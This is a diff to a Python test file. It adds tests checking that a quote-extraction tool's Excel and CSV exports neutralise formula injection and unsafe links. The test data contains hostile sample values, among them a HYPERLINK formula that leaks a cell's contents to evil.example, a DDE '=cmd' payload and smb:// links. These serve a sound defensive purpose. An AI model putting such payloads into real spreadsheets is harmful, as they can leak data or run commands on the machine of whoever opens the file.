@@ -5,12 +5,14 @@ import zipfile
 import openpyxl
 import pandas as pd
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from quotes import read_claims
 from quotes.pipeline import write_outputs
 from quotes.types import RunInfo
 from quotes.export.rows import OUTPUT_COLUMNS
-from quotes.export.safe import EXCEL_CELL_LIMIT, atomic_path, cell_text
+from quotes.export.safe import EXCEL_CELL_LIMIT, FORMULA_STARTS, atomic_path, cell_text, csv_escaped, csv_unescaped
 from quotes.types import Article, ArticleResult, Claim
 
 RUN = RunInfo("0.1.0", "test annotator", "test models", "quotes extract x", "2026-01-01T00:00:00+00:00")
@@ -70,6 +72,41 @@ def test_no_cell_is_a_formula_in_any_sheet(tmp_path):
         for name in z.namelist():
             if name.startswith("xl/worksheets/"):
                 assert b"<f>" not in z.read(name) and b"<f " not in z.read(name)
+
+
+def test_hostile_speakers_and_ids_are_text_in_every_sheet(tmp_path):
+    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "#N/A", "@SUM(A1)", "\t=1+1"]
+    res = [ArticleResult(Article(h, TEXT, f"/tmp/{k}.txt", {"title": h, "date": h, "author": h}), "ok",
+                         (claim(h, 1, speaker=f"{h} Eve", role=h, text=h),)) for k, h in enumerate(hostile)]
+    out = tmp_path / "claims.xlsx"
+    write_outputs(res, out, run_info=RunInfo("=1", "=cmd|' /C calc'!A0", "+m", "-c", "@t"))
+    wb = openpyxl.load_workbook(out)
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+    assert {c.data_type for c in cells} == {"s", "n"}
+    texts = {ws.title: {c.value for row in ws.iter_rows() for c in row} for ws in wb.worksheets}
+    assert {f"{h} Eve" for h in hostile} <= texts["Top speakers"] & texts["Speakers"] & texts["Claims"]
+    assert set(hostile) <= texts["Articles"] and "=cmd|' /C calc'!A0" in texts["About"]
+    assert 4 in texts["About"]  # the article count stays a number
+
+
+@pytest.mark.parametrize("link, target", [
+    ("https://example.org/a", "https://example.org/a"), ("/tmp/a.txt", "file:///tmp/a.txt"),
+    ("file://evil.example/share/a", None), ("smb://evil.example/a", None), ('=HYPERLINK("http://x")', None),
+])
+def test_only_web_and_file_paths_are_clickable(tmp_path, link, target):
+    res = [ArticleResult(Article("a", TEXT, link), "ok", (claim("a", 1),))]
+    write_outputs(res, tmp_path / "c.xlsx", run_info=RUN)
+    cell = openpyxl.load_workbook(tmp_path / "c.xlsx")["Claims"].cell(2, OUTPUT_COLUMNS.index("link") + 1)
+    assert cell.value == link and (cell.hyperlink.target if cell.hyperlink else None) == target
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab "), max_size=8))
+def test_csv_escape_round_trips_and_leaves_no_formula_start(text):
+    escaped = csv_escaped(text)
+    assert csv_unescaped(escaped) == text
+    assert not escaped.startswith(tuple(FORMULA_STARTS))
+    assert escaped == text or escaped == "'" + text
 
 
 def test_workbook_layout(tmp_path):
